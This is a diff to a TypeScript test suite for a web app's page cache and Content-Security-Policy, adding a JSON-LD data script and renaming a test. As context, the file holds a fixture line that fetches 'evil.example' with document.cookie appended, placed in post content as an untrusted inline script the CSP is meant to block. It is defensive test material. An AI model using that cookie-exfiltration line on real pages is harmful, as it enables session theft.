@@ -16,6 +16,7 @@ import {
 
 const THEME_SCRIPT = "document.documentElement.dataset.theme='dark'";
 /** An inline script the app did not write (say, in a post's content): never trusted. */
+const JSON_LD = '{"@context":"https://schema.org","@type":"Organization"}';
 const CONTENT_SCRIPT = "fetch('https://evil.example/?'+document.cookie)";
 const STYLESHEET =
   '<style data-stylesheet="/assets/app-1.css">.popup{font-weight:700}.admin-table{width:100%}</style>';
@@ -58,6 +59,7 @@ describe.each(TEST_DATABASES)("page cache (%s)", (kind) => {
           <p class="popup">${popup?.title ?? "no popup"}</p><ul>${posts.map((p) => `<li>${p.title}</li>`).join("")}</ul>
           <p>consent: ${consent}</p>${"<p>filler</p>".repeat(path.includes("large") ? 20_000 : path.includes("medium") ? 2_000 : 1)}
           <div class="post"><script>${CONTENT_SCRIPT}</script></div>
+          <script type="application/ld+json" nonce="${PAGE_CACHE_NONCE}">${JSON_LD}</script>
           <script type="module" nonce="${PAGE_CACHE_NONCE}">import("/assets/entry.js")</script></body></html>`;
         return {
           status: 200,
@@ -223,7 +225,7 @@ describe.each(TEST_DATABASES)("page cache (%s)", (kind) => {
     expect(html(plain)).toBe(html(first));
   });
 
-  it("allows exactly the app's own inline scripts by hash, with no nonce, and no other inline script", async () => {
+  it("allows exactly the app's own inline scripts by hash, with no nonce, and no other inline script (JSON-LD is data: no hash)", async () => {
     const res = await get("/page/csp");
     const csp = String(res.headers["content-security-policy"]);
     const scriptSrc = csp.split(";").find((d) => d.startsWith("script-src")) ?? "";
